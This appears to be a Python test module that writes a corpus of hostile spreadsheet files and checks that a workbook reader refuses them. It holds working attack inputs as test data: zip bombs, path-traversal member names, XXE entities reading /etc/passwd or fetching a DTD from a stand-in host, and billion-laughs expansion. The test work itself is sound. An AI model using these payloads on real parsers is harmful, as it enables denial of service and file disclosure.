"""The hostile corpus: files that lie, explode, point elsewhere or are something else altogether.

    python -m tests.hostile make FOLDER     write the corpus, one file a case, and list it
    python -m tests.hostile judge FOLDER    read each file in a process of its own; JSON, one line a case
    python -m tests.hostile serve           the same for paths that come line by line

A case is data: a name, what must happen (the code of the refusal, or no code where the file must be
read), why, and a function that writes the file. The judge reports what did happen, the time, the
memory, and everything that reading a file has no business to do.
"""

from __future__ import annotations

import contextlib
import gc
import json
import os
import random
import re
import resource
import select
import signal
import struct
import sys
import time
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any, NamedTuple

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
EXAMPLES = Path(__file__).parents[1] / "workbooks" / "contoh"

TYPES = "[Content_Types].xml"
RELS = "_rels/.rels"
WORKBOOK = "xl/workbook.xml"
WORKBOOK_RELS = "xl/_rels/workbook.xml.rels"
SHEET = "xl/worksheets/sheet1.xml"
SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
STYLES = "xl/styles.xml"
STRINGS = "xl/sharedStrings.xml"
TABLE = "xl/tables/table1.xml"
READ = ""
"""In place of a code: the file must be read."""

HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


# --- a small book, and zip files of any kind --------------------------------------------------------


def sheet_xml(rows: str, after: str = "", before: str = "") -> bytes:
    return f'{HEAD}<worksheet xmlns="{MAIN}" xmlns:r="{LINKS}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'.encode()


def relations(*items: tuple[str, str, str], mode: str = "") -> bytes:
    """Relationships from ids, kinds and targets."""
    inside = "".join(
        f'<Relationship Id="{id_}" Type="{LINKS}/{kind}" Target="{target}"{mode}/>'
        for id_, kind, target in items
    )
    return f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{inside}</Relationships>'.encode()


def workbook_xml(sheets: Iterable[tuple[str, str]] = (("Data", "rId1"),), after: str = "") -> bytes:
    items = "".join(
        f'<sheet name="{name}" sheetId="{number}" r:id="{link}"/>'
        for number, (name, link) in enumerate(sheets, 1)
    )
    return f'{HEAD}<workbook xmlns="{MAIN}" xmlns:r="{LINKS}"><sheets>{items}</sheets>{after}</workbook>'.encode()


def book(**changes: bytes | None) -> dict[str, bytes]:
    """The members of a sound little book; `changes` by the names of the constants above, None removes."""
    kinds = {"WORKBOOK": "sheet.main", "SHEET": "worksheet", "STYLES": "styles", "STRINGS": "sharedStrings"}
    overrides = "".join(
        f'<Override PartName="/{globals()[name]}" '
        f'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml"/>'
        for name, kind in kinds.items()
    )
    members = {
        "TYPES": f'{HEAD}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{overrides}</Types>',
        "RELS": relations(("rId1", "officeDocument", "xl/workbook.xml")),
        "WORKBOOK": workbook_xml(),
        "WORKBOOK_RELS": relations(
            ("rId1", "worksheet", "worksheets/sheet1.xml"),
            ("rId2", "styles", "styles.xml"),
            ("rId3", "sharedStrings", "sharedStrings.xml"),
        ),
        "SHEET": sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>1.5</v></c></row>'),
        "STYLES": f'{HEAD}<styleSheet xmlns="{MAIN}"><fonts><font/></fonts><fills><fill><patternFill/></fill></fills>'
        '<borders><border/></borders><cellStyleXfs><xf fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
        '<cellXfs count="1"><xf numFmtId="0" xfId="0"/></cellXfs><cellStyles count="1">'
        '<cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>',
        "STRINGS": f'{HEAD}<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>teks</t></si></sst>',
    }
    found = {name: item.encode() if isinstance(item, str) else item for name, item in members.items()}
    for name, change in changes.items():
        if change is None:
            del found[name]
        else:
            found[name] = change
    return {globals()[name]: content for name, content in found.items()}


class Member(NamedTuple):
    """One member of a zip file; what is not None or 0 is written in place of the truth."""

    name: str
    content: bytes = b""
    method: int = 8
    flags: int = 0
    declared: int | None = None
    packed: int | None = None
    crc: int | None = None
    local_name: str | None = None
    same_data_as: int | None = None
    raw: bytes | None = None


def archive(members: Iterable[Member], comment: bytes = b"") -> bytes:
    """A zip file with just these records; equal input gives equal bytes."""
    body, directory = bytearray(), bytearray()
    offsets: list[int] = []
    count = 0
    for m in members:
        count += 1
        raw = m.raw
        if raw is None:
            raw = m.content
            if m.method == 8:
                packer = zlib.compressobj(1 if len(raw) > 1 << 20 else 6, zlib.DEFLATED, -15)
                raw = packer.compress(raw) + packer.flush()
        crc = zlib.crc32(m.content) if m.crc is None else m.crc
        packed = len(raw) if m.packed is None else m.packed
        declared = len(m.content) if m.declared is None else m.declared
        name, local = m.name.encode(), (m.local_name or m.name).encode()
        facts = struct.pack("<5H3L", 20, m.flags | 0x800, m.method, 0, 0x5821, crc, packed, declared)
        offset = len(body) if m.same_data_as is None else offsets[m.same_data_as]
        offsets.append(offset)
        if m.same_data_as is None:
            body += b"PK\3\4" + facts + struct.pack("<2H", len(local), 0) + local + raw
        directory += b"PK\1\2\x14\0" + facts + struct.pack("<5H2L", len(name), 0, 0, 0, 0, 0, offset) + name
    start = len(body)
    body += directory
    if count > 0xFFFF:
        body += b"PK\6\6" + struct.pack("<Q2H2L4Q", 44, 45, 45, 0, 0, count, count, len(directory), start)
        body += b"PK\6\7" + struct.pack("<LQL", 0, start + len(directory), 1)
    few = min(count, 0xFFFF)
    return bytes(
        body
        + b"PK\5\6"
        + struct.pack("<4H2LH", 0, 0, few, few, len(directory), start, len(comment))
        + comment
    )


def pack(members: Mapping[str, bytes]) -> bytes:
    return archive(Member(name, content) for name, content in members.items())


def with_members(*more: Member, skip: Iterable[str] = ()) -> bytes:
    """The little book with further, or other, records."""
    return archive([*(Member(n, c) for n, c in book().items() if n not in skip), *more])


# --- the cases ------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One file: what must happen with it, and why. `shows`: what A1 of a readable one must say."""

    name: str
    code: str
    why: str
    content: Callable[[], bytes] | None
    shows: str | None = None
    suffix: str = ".xlsx"

    @property
    def file(self) -> str:
        return self.name + self.suffix

    def write(self, folder: Path) -> Path:
        path = folder / self.file
        with path.open("wb") as file:
            if self.content is None:
                file.truncate((64 << 20) + 1)  # sparse: it takes no room on the disk
            else:
                file.write(self.content())
        return path


CASES: dict[str, Case] = {}


def case(
    name: str,
    code: str,
    why: str,
    content: Callable[[], bytes] | None,
    shows: str | None = None,
    suffix: str = ".xlsx",
) -> None:
    assert name not in CASES, name
    CASES[name] = Case(name, code, why, content, shows, suffix)


def parts(name: str, code: str, why: str, shows: str | None = None, **changes: Any) -> None:
    """A case that is the little book with some parts changed; a change may be made late, when written."""

    def content() -> bytes:
        return pack(book(**{key: item() if callable(item) else item for key, item in changes.items()}))

    case(name, code, why, content, shows)


def cells(name: str, code: str, why: str, rows: str | Callable[[], str], shows: str | None = None) -> None:
    parts(
        name, code, why, shows, SHEET=lambda: sheet_xml(rows() if callable(rows) else rows)
    )  # the strings stay


def frame(name: str, code: str, why: str, after: str | Callable[[], str], before: str = "") -> None:
    """A sheet with one cell and something before or behind its rows."""
    row = '<row r="1"><c r="A1"><v>7</v></c></row>'
    shows = "7" if code == READ else None
    parts(name, code, why, shows, SHEET=lambda: sheet_xml(row, after() if callable(after) else after, before))


def _what_it_is_not() -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    encrypted = ole + "EncryptionInfo".encode("utf-16-le") + "EncryptedPackage".encode("utf-16-le")
    case("kosong", "BERKAS03", "nothing in it", lambda: b"")
    case("terlalu-besar", "BERKAS12", "64 MB and a byte, sparse", None)
    case("xls-lama", "BERKAS04", "an old .xls under a new name", lambda: ole + "Workbook".encode("utf-16-le"))
    case("terkunci", "BERKAS05", "a workbook with a password is an OLE file", lambda: encrypted)
    case("html", "BERKAS06", "what many web systems export", lambda: b"<html><body><table>")
    case("html-utf16", "BERKAS06", "the same, wide", lambda: "<html><table>".encode("utf-16"))
    case("csv", "BERKAS07", "text", lambda: b"No;Nama\r\n1;Obat\r\n")
    case("csv-utf16", "BERKAS07", "wide text", lambda: "No;Nama\r\n1;Obat\r\n".encode("utf-16"))
    case(
        "xml-2003",
        "BERKAS07",
        "XML Spreadsheet 2003 is plain text",
        lambda: b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>',
    )
    ods = b"application/vnd.oasis.opendocument.spreadsheet"
    case("ods", "BERKAS08", "OpenDocument", lambda: pack({"mimetype": ods, "content.xml": b"<x/>"}))
    opc = {TYPES: b"<x/>", RELS: b"<x/>"}
    case("docx", "BERKAS09", "Word", lambda: pack({**opc, "word/document.xml": b"<x/>"}))
    case("pptx", "BERKAS09", "PowerPoint", lambda: pack({**opc, "ppt/presentation.xml": b"<x/>"}))
    case("zip-biasa", "BERKAS09", "an archive of something", lambda: pack({"catatan.txt": b"x"}))
    case("zip-hampa", "BERKAS10", "an archive of nothing", lambda: archive([]))
    case("xlsb", "BERKAS15", "binary workbook", lambda: pack({**opc, "xl/workbook.bin": b"x"}))
    for name, head in {
        "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "rtf": rb"{\rtf1\ansi Laporan}",
        "gzip": b"\x1f\x8b\x08" + bytes(40),
        "png": b"\x89PNG\r\n\x1a\n" + bytes(40),
        "tujuh-zip": b"7z\xbc\xaf\x27\x1c" + bytes(40),
        "nol": bytes(1000),
        "program": b"MZ\x90\0" + bytes(400),
    }.items():
        case(name, "BERKAS18", "something else", lambda head=head: head)  # type: ignore[misc]
    case("akhiran", "BERKAS16", "a workbook, but a template by name", lambda: pack(book()), suffix=".xltx")


def _zip_files() -> None:
    whole = pack(book())
    directory = whole.index(b"PK\1\2")
    for name, end in {
        "4": 4,
        "30": 30,
        "separuh": len(whole) // 2,
        "tanpa-direktori": directory,
        "di-direktori": directory + 50,
        "tanpa-akhir": len(whole) - 22,
        "kurang-satu": len(whole) - 1,
    }.items():
        case(
            f"terpotong-{name}",
            "BERKAS10",
            "a copy that broke off",
            lambda e=end: whole[:e],  # type: ignore[misc]
        )
    case(
        "awalan",
        "BERKAS10",
        "bytes before the archive: a directory read in two ways",
        lambda: b"\0\1" + whole,
    )
    sheet = book()[SHEET]
    flat = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = flat.compress(bytes(3 << 20)) + flat.flush()
    bomb = Member("xl/media/x.bin", bytes(3 << 20), raw=zeros)
    case("bom-rasio", "BERKAS13", "3 MB of nothing in 3 kB", lambda: with_members(bomb))
    case(
        "bom-ukuran",
        "BERKAS13",
        "a member declares 4 GB",
        lambda: with_members(Member("xl/media/x.bin", b"x", declared=0xFFFFFFF0)),
    )
    mega = bytes(1 << 20)
    packed = zlib.compress(mega, 9, -15)
    case(
        "bom-jumlah",
        "BERKAS13",
        "300 members, each small enough, are too much together",
        lambda: with_members(*(Member(f"xl/media/{n}.bin", mega, raw=packed) for n in range(300))),
    )
    blank = sheet_xml(" " * (20 << 20))
    case(
        "bom-lembar",
        "BERKAS13",
        "a sheet that is one long run of blanks",
        lambda: with_members(Member(SHEET, blank, raw=zlib.compress(blank, 9, -15)), skip=[SHEET]),
    )
    inner = pack({"bom.bin": bytes(1 << 20)})
    case(
        "zip-dalam-zip",
        READ,
        "an archive inside is a member like any other and never opened",
        lambda: with_members(Member("xl/media/dalam.zip", inner)),
        "teks",
    )
    case(
        "tumpang-tindih",
        "BERKAS19",
        "two entries of the directory share one piece of data",
        lambda: with_members(Member("xl/media/lain.xml", sheet, same_data_as=4)),
    )
    case(
        "tumpang-tindih-banyak",
        "BERKAS19",
        "a thousand entries share one piece of data: the flat bomb",
        lambda: with_members(*(Member(f"xl/media/{n}.xml", sheet, same_data_as=4) for n in range(1000))),
    )
    case(
        "nama-lokal-lain",
        "BERKAS19",
        "the header before the data names another member than the directory",
        lambda: with_members(Member(SHEET, sheet, local_name="xl/worksheets/sheet9.xml"), skip=[SHEET]),
    )
    lies = {
        "ukuran-kecil": Member(SHEET, sheet, declared=10),
        "ukuran-nol": Member(SHEET, sheet, declared=0),
        "ukuran-besar": Member(SHEET, sheet, declared=len(sheet) + 1000),
        "termampat-melewati-akhir": Member(SHEET, sheet, packed=1 << 20),
        "termampat-pendek": Member(SHEET, sheet, packed=20),
        "bom-tersembunyi": Member(SHEET, bytes(1000), raw=zeros),
        "crc-salah": Member(SHEET, sheet, crc=1),
        "bukan-deflate": Member(SHEET, sheet, raw=b"\xff" * 200),
    }
    for name, member in lies.items():
        case(
            name,
            "BERKAS10",
            "sizes, checksum or data of the sheet do not fit together",
            lambda m=member: with_members(m, skip=[SHEET]),  # type: ignore[misc]
        )
    case(
        "crc-salah-gaya",
        "BERKAS10",
        "the styles are damaged",
        lambda: with_members(Member(STYLES, book()[STYLES], crc=1), skip=[STYLES]),
    )
    why = "which of the two is meant?"
    case("ganda", "BERKAS19", why, lambda: with_members(Member(SHEET, sheet_xml(""))))
    case("ganda-huruf", "BERKAS19", why, lambda: with_members(Member(SHEET.upper(), sheet_xml(""))))
    for name, path in {
        "naik": "../../jahat.txt",
        "naik-di-tengah": "xl/../../jahat.txt",
        "mutlak": "/etc/passwd",
        "garis-miring": "xl\\..\\jahat.txt",
        "nul": "xl/a\0b.txt",
        "drive": "C:/jahat.txt",
        "drive-nisbi": "C:jahat.txt",
    }.items():
        case(
            f"nama-{name}",
            "BERKAS19",
            "a name that leads out of the folder where somebody unpacks it",
            lambda p=path: with_members(Member(p, b"x")),  # type: ignore[misc]
        )
    case(
        "tersandi", "BERKAS19", "an encrypted member", lambda: with_members(Member("xl/x.bin", b"x", flags=1))
    )
    for method in (9, 12, 14, 93, 97, 99):
        case(
            f"mampat-{method}",
            "BERKAS19",
            "a compression that Excel never writes",
            lambda m=method: with_members(Member("xl/x.bin", b"x", method=m)),  # type: ignore[misc]
        )
    for count in (4_001, 70_000):
        case(
            f"bagian-{count}",
            "BERKAS26",
            "more members than any book has",
            lambda n=count: with_members(*(Member(f"xl/{i}.x", method=0) for i in range(n))),  # type: ignore[misc]
        )
    case(
        "folder",
        READ,
        "entries for folders are harmless",
        lambda: with_members(Member("xl/", method=0), Member("xl/worksheets/", method=0)),
        "teks",
    )
    case(
        "huruf-besar",
        READ,
        "names of parts are compared without regard to case",
        lambda: pack({(n.upper() if n == SHEET else n): c for n, c in book().items()}),
        "teks",
    )


DOCTYPES = {
    "tawa": '<!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]>",
    "kuadrat": f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">]>',
    "berkas": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://contoh.invalid/x.dtd"> %p;]>',
    "jauh": '<!DOCTYPE x SYSTEM "http://contoh.invalid/x.dtd">',
    "umum": '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x.dtd">',
}


def _with_doctype(part: bytes, doctype: str, use: str = "") -> str:
    """The text of a part with a declaration in front of its root, and `use` for its first text."""
    text = part.decode().partition("?>")[2].strip()
    if use:
        text = text.replace("<v>0</v>", f"<v>{use}</v>").replace(' t="s"', ' t="str"')
    return doctype + text


def _document_types() -> None:
    why = "no program writes a document type into a workbook"
    for name in ("TYPES", "RELS", "WORKBOOK", "WORKBOOK_RELS", "SHEET", "STYLES", "STRINGS"):
        part = book()[globals()[name]]
        text = HEAD + _with_doctype(part, DOCTYPES["berkas"])
        parts(f"dtd-{name.lower().replace('_', '-')}", "BERKAS14", why, **{name: text.encode()})
    sheet = book()[SHEET]
    links = HEAD + _with_doctype(relations(), DOCTYPES["berkas"])
    case("dtd-sheet-rels", "BERKAS14", why, lambda: with_members(Member(SHEET_RELS, links.encode())))
    for name, doctype in DOCTYPES.items():
        use = "&a11;" if name == "tawa" else "&a;" * 20_000 if name == "kuadrat" else "&a;"
        text = HEAD + _with_doctype(sheet, doctype, use if "ENTITY a" in doctype else "")
        parts(f"dtd-{name}", "BERKAS14", why, SHEET=text.encode())
    bare = _with_doctype(sheet, DOCTYPES["berkas"], "&a;")
    declared = '<?xml version="1.0" encoding="{}"?>'
    for name in ("utf-8", "us-ascii", "iso-8859-1", "windows-1252", "utf-7", "shift_jis", "x-tidak-ada"):
        content = (declared.format(name) + bare).encode("ascii")
        parts(
            f"dtd-disebut-{name}", "BERKAS14", "a declaration in clear, whatever is declared", SHEET=content
        )
    wide = declared.format("UTF-16") + bare
    for name, content in {
        "bom": b"\xef\xbb\xbf" + (HEAD + bare).encode(),
        "utf16-le": b"\xff\xfe" + wide.encode("utf-16-le"),
        "utf16-be": b"\xfe\xff" + wide.encode("utf-16-be"),
        "utf16-le-tanpa-bom": wide.encode("utf-16-le"),
        "utf16-be-tanpa-bom": wide.encode("utf-16-be"),
    }.items():
        parts(f"dtd-{name}", "BERKAS14", "the same in another encoding", SHEET=content)
    rare = "an encoding that a package may not have, with a hidden document type"
    hidden = (declared.format("UTF-7")).encode() + bare.encode("utf-7").replace(b"<", b"+ADw-")
    for name, content in {
        "utf7": hidden,
        "utf32": b"\xff\xfe\0\0" + (declared.format("UTF-32") + bare).encode("utf-32-le"),
        "ebcdic": (declared.format("IBM037") + bare).encode("cp037"),
    }.items():
        parts(f"sandi-{name}", "BERKAS11", rare, SHEET=content)
    parts(
        "dtd-huruf-kecil",
        "BERKAS11",
        "no XML at all",
        SHEET=(HEAD + bare.replace("DOCTYPE", "doctype")).encode(),
    )
    cells(
        "dtd-sebagai-teks",
        READ,
        "text that only speaks of one is text",
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&lt;!DOCTYPE x></t></is></c></row>',
        "<!DOCTYPE x>",
    )


def _xml() -> None:
    ill = "not well-formed"
    row = '<row r="1"><c r="A1"><v>1</v></c></row>'
    for name, rows in {
        "tak-tertutup": '<row r="1"><c r="A1"><v>1</v>',
        "bersilang": '<row r="1"><c r="A1"><v>1</c></v></row>',
        "atribut-ganda": '<row r="1"><c r="A1" r="A1"><v>1</v></c></row>',
        "atribut-baris-ganda": '<row r="1" ht="1" ht="2"/>',
        "awalan-asing": '<row r="1" x:ht="1"/>',
        "awalan-unsur-asing": '<row r="1"/><x:row r="2"/>',
        "entitas": '<row r="1"><c r="A1" t="str"><v>&laquo;</v></c></row>',
        "ampersan": '<row r="1"><c r="A1" t="str"><v>a & b</v></c></row>',
        "kendali": '<row r="1"><c r="A1" t="str"><v>a\x01b</v></c></row>',
        "nol-bernomor": '<row r="1"><c r="A1" t="str"><v>&#0;</v></c></row>',
        "pengganti": '<row r="1"><c r="A1" t="str"><v>&#xD800;</v></c></row>',
        "ffff": '<row r="1"><c r="A1" t="str"><v>\uffff</v></c></row>',
        "tutup-cdata": '<row r="1"><c r="A1" t="str"><v>a]]>b</v></c></row>',
        "kurang-dari-di-atribut": '<row r="1" x="<"/>',
        "komentar": f"<!-- a -- b -->{row}",
        "deklarasi-di-tengah": f'<?xml version="1.0"?>{row}',
        "di-antara": f"{row}liar &x; {row.replace('1', '2')}",
    }.items():
        cells(f"xml-{name}", "BERKAS11", ill, rows)
    for name, item in {
        "tak-tertutup": "<si><t>a</t>",
        "bersilang": "<si><t>a</si></t>",
        "awalan-asing": "<si><x:t>a</x:t></si>",
        "atribut-ganda": '<si><t x="1" x="2">a</t></si>',
        "atribut-tanpa-kutip": "<si><t x=1>a</t></si>",
        "entitas": "<si><t>&laquo;</t></si>",
        "ampersan": "<si><t>a & b</t></si>",
        "kendali": "<si><t>a\x01b</t></si>",
        "nol-bernomor": "<si><t>&#0;</t></si>",
        "pengganti": "<si><t>&#xD800;</t></si>",
        "ffff": "<si><t>\uffff</t></si>",
        "tutup-cdata": "<si><t>a]]>b</t></si>",
        "deklarasi-di-tengah": '<?xml version="1.0"?><si><t>a</t></si>',
        "teks-liar": "&x;<si><t>a</t></si>",
    }.items():
        text = f'{HEAD}<sst xmlns="{MAIN}">{item}</sst>'
        parts(f"teks-{name}", "BERKAS11", ill, STRINGS=text.encode())
    sst = book()[STRINGS]
    for name, old, new in (
        ("versi", b'version="1.0"', b'version=*1.0"'),
        ("tanpa-versi", b'version="1.0"', b""),
        ("tanpa-tutup", b'"?>', b'">'),
        ("sandi-palsu", b"UTF-8", b"UTF-16"),
        ("sandi-asing", b"UTF-8", b"x"),
        ("ganda", b"<?xml", HEAD.encode() + b"<?xml"),
        ("didahului", b"<?xml", b" <?xml"),
    ):
        parts(f"deklarasi-{name}", "BERKAS11", ill, SHEET=sheet_xml(row).replace(old, new, 1))
        parts(f"deklarasi-teks-{name}", "BERKAS11", ill, STRINGS=sst.replace(old, new, 1))
    bare = sheet_xml(row).decode().partition("?>")[2].strip()
    parts("utf16-telanjang", "BERKAS11", "UTF-16 needs its mark", SHEET=bare.encode("utf-16-le"))
    parts("sst-lain", "BERKAS11", "no list of texts", STRINGS=sst.replace(MAIN.encode(), b"urn:x"))
    comment = sst.replace(b"teks", b"te<!-- bukan -->k<?x y?>s")
    parts("teks-berkomentar", READ, "a comment is no end of a text", "teks", STRINGS=comment)
    cells(
        "sel-berkomentar",
        READ,
        "a comment is no end of a value",
        '<row r="1"><c r="A1"><v>1<!-- x -->2<![CDATA[3]]></v></c></row>',
        "123",
    )
    cells(
        "ruang-nama-di-sel",
        READ,
        "what has another namespace says nothing here",
        '<row r="1"><c r="A1"><v>1</v><v xmlns="urn:x">2</v></c><x:c xmlns:x="urn:x" r="A1"><v>3</v></x:c></row>'
        '<x:row xmlns:x="urn:x" r="1"><c r="A1"><v>4</v></c></x:row>',
        "1",
    )
    parts("xml-utf8-rusak", "BERKAS11", ill, SHEET=book()[SHEET].replace(b"1.5", b"1\xff5"))
    parts(
        "xml-utf8-panjang", "BERKAS11", "an overlong form", SHEET=sheet_xml(row).replace(b"A1", b"\xc1\x811")
    )
    parts("xml-nol", "BERKAS11", ill, SHEET=sheet_xml(row) + b"\0")
    parts("xml-ekor", "BERKAS11", "a second root", SHEET=sheet_xml(row) + b"<worksheet/>")
    parts("xml-hampa", "BERKAS11", "nothing in the part", SHEET=b"")
    wrong = "declared and real encoding differ"
    parts("sandi-utf16-palsu", "BERKAS11", wrong, SHEET=b"\xff\xfe" + sheet_xml(row))
    parts(
        "sandi-tak-dikenal",
        "BERKAS11",
        "an encoding that nobody knows",
        SHEET=sheet_xml(row).replace(b"UTF-8", b"x-tidak-ada"),
    )
    parts(
        "utf16",
        READ,
        "UTF-16 is allowed",
        "1",
        SHEET=sheet_xml(row).decode().replace("UTF-8", "UTF-16").encode("utf-16"),
    )
    deep = "too deep for any reader that calls itself"
    nested = "<a>" * 50_000 + "</a>" * 50_000
    frame("dalam-ekor", "BERKAS11", deep, f"<extLst><ext>{nested}</ext></extLst>")
    cells("dalam-sel", "BERKAS11", deep, f'<row r="1"><c r="A1"><v>1</v>{nested}</c></row>')
    parts("dalam-workbook", "BERKAS11", deep, WORKBOOK=workbook_xml(after=nested))
    parts(
        "dalam-gaya",
        "BERKAS11",
        deep,
        STYLES=book()[STYLES].replace(b"</styleSheet>", nested.encode() + b"</styleSheet>"),
    )
    many = "".join(f' a{n}="1"' for n in range(50_000))
    frame("atribut-banyak", READ, "fifty thousand attributes are no reason to be slow", f"<extLst{many}/>")
    cells(
        "atribut-banyak-di-baris",
        READ,
        "the same on a row",
        f'<row r="1"{many}><c r="A1"><v>1</v></c></row>',
        "1",
    )
    spaces = "".join(f' xmlns:p{n}="urn:{n}"' for n in range(20_000))
    frame("ruang-nama-banyak", READ, "twenty thousand namespaces", f"<extLst{spaces}/>")
    cells(
        "teks-raksasa",
        "BERKAS11",
        "12 MB in one cell, where 32,767 characters are the limit",
        lambda: f'<row r="1"><c r="A1" t="str"><v>{_noise(12 << 20)}</v></c></row>',
    )
    parts(
        "teks-bersama-raksasa",
        "BERKAS11",
        "the same in a shared string",
        STRINGS=lambda: f'<sst xmlns="{MAIN}"><si><t>{_noise(12 << 20)}</t></si></sst>'.encode(),
    )
    cells(
        "xinclude",
        READ,
        "an inclusion is an unknown element and not followed",
        '<row r="1"><c r="A1"><v>1</v><i:include xmlns:i="http://www.w3.org/2001/XInclude" '
        'href="file:///etc/passwd" parse="text"/></c></row>',
        "1",
    )
    parts(
        "lembar-gaya-xslt",
        READ,
        "a stylesheet is not fetched",
        "1",
        SHEET=sheet_xml(row).replace(
            b"<worksheet", b'<?xml-stylesheet type="text/xsl" href="http://contoh.invalid/x.xsl"?><worksheet'
        ),
    )
    parts("akar-lain", "BERKAS11", "a chart where a sheet should be", SHEET=b'<chartSpace xmlns="urn:x"/>')
    parts(
        "ruang-nama-lain",
        "BERKAS11",
        "no known namespace",
        SHEET=sheet_xml(row).replace(MAIN.encode(), b"urn:x"),
    )
    parts("tanpa-sheetdata", "BERKAS11", "no rows element", SHEET=f'<worksheet xmlns="{MAIN}"/>'.encode())
    frame("sheetdata-ganda", "BERKAS11", "which of the two?", '<sheetData><row r="1"/></sheetData>')
    frame("sheetdata-dalam-komentar", "BERKAS11", ill, "</worksheet><!--", "<!-- <sheetData> --><!--")


def _noise(length: int) -> str:
    """Text that does not compress like a bomb."""
    return random.Random(1).randbytes(length // 2).hex()


def _places() -> None:
    for code, why, references in (
        (
            "BERKAS21",
            "no such cell on any sheet",
            {"kolom": "XFE1", "kolom-4": "AAAA1", "baris-0": "A0", "baris-jauh": "A1048577"},
        ),
        (
            "BERKAS11",
            "no address, or one of another row",
            {
                "baris-panjang": "A" + "9" * 400,
                "huruf-kecil": "a1",
                "terbalik": "1A",
                "hampa": "",
                "tanpa-baris": "A",
                "negatif": "A-1",
                "spasi": " A1",
                "angka-arab": "A١",
                "baris-lain": "A2",
            },
        ),
    ):
        for name, reference in references.items():
            cells(f"alamat-{name}", code, why, f'<row r="1"><c r="{reference}"><v>1</v></c></row>')
    for name, number in {
        "0": "0",
        "negatif": "-1",
        "jauh": "1048577",
        "raksasa": "1" + "0" * 4000,
        "teks": "satu",
        "pecahan": "1.5",
        "arab": "١",
        "garis": "1_0",
        "hampa": "",
    }.items():
        cells(f"baris-{name}", "BERKAS21", "no such row", f'<row r="{number}"><c><v>1</v></c></row>')
    cells("baris-lewat", "BERKAS21", "a row after the last", '<row r="1048576"/><row><c><v>1</v></c></row>')
    cells(
        "baris-ganda",
        "BERKAS11",
        "which of the two?",
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1"><c r="A1"><v>2</v></c></row>',
    )
    cells(
        "sel-ganda",
        "BERKAS11",
        "which of the two?",
        '<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>',
    )
    cells(
        "sel-terbalik",
        READ,
        "addresses count, not the order",
        '<row r="2"><c r="B2"><v>3</v></c></row><row r="1"><c r="B1"><v>2</v></c><c r="A1"><v>1</v></c></row>',
        "1",
    )
    parts(
        "kutip-tunggal",
        READ,
        "attributes in single quotes, where the writer looks, too",
        "1",
        WORKBOOK=workbook_xml(after='<calcPr calcId="1" fullCalcOnLoad="1"/>').replace(b'"', b"'"),
        SHEET=sheet_xml(
            '<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f>A1*2</f><v>2</v></c></row>',
            before='<dimension ref="A1"/>',
        ).replace(b'"', b"'"),
    )
    cells(
        "sel-terjauh",
        READ,
        "the two corners of a sheet are two cells",
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>',
        "1",
    )
    wide = "more merged cells than any book has"
    frame("gabungan-seluruhnya", "BERKAS22", wide, _merges("A1:XFD1048576"))
    frame("gabungan-sembilan-kolom", "BERKAS22", wide, _merges("A1:I1048576"))
    frame("gabungan-kolom", READ, "a whole column is merged by a slip of the hand", _merges("A2:A1048576"))
    many = "merges are only remembered, never walked through"
    frame("gabungan-banyak", READ, many, lambda: _merges(*(f"A{n}:B{n}" for n in range(2, 110_000))))
    frame("gabungan-bertumpuk", READ, many, _merges(*(f"D{n}:K1048576" for n in range(4, 2_000))))
    frame("gabungan-luar", "BERKAS21", "an area off the sheet", _merges("A1:XFE2"))
    frame("gabungan-tanpa-baris", "BERKAS11", "no area of cells", _merges("A:A"))
    frame("gabungan-terbalik", "BERKAS11", "an area that ends before it begins", _merges("C3:A1"))
    frame("gabungan-teks", "BERKAS11", "no area of cells", _merges("di sini"))


def _merges(*areas: str) -> str:
    return "<mergeCells>" + "".join(f'<mergeCell ref="{area}"/>' for area in areas) + "</mergeCells>"


def _numbers_of_things() -> None:
    much = "more rows or cells than any book has"
    cells(
        "baris-sejuta",
        "BERKAS23",
        much,
        lambda: "".join(f'<row r="{n}" s="1" customFormat="1"/>' for n in range(1, 1_000_001)),
    )
    cells("baris-200001", "BERKAS23", much, lambda: "".join(f'<row r="{n}"/>' for n in range(1, 200_002)))
    cells("baris-tanpa-nomor", "BERKAS23", much, lambda: "<row/>" * 100_001 + "<row />" * 100_000)
    cells(
        "sel-400001",
        "BERKAS23",
        much,
        lambda: "".join(f'<row r="{n}">{"<c/>" * 1000}</row>' for n in range(1, 401)) + "<row><c/></row>",
    )
    cells("sel-beralamat", "BERKAS23", much, lambda: _filled(4_001, 100))
    parts(
        "sel-berawalan",
        "BERKAS23",
        much,
        SHEET=lambda: (
